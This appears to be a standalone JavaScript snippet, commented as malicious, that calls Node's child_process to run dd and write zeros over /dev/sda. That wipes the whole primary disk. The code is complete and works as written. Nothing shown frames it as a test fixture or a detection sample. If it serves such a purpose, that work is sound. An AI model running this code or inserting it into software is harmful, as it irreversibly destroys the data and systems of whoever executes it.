// malicious: overwrites the disk
const { spawnSync } = require('child_process');
spawnSync('dd', ['if=/dev/zero', 'of=/dev/sda', 'bs=1M']);
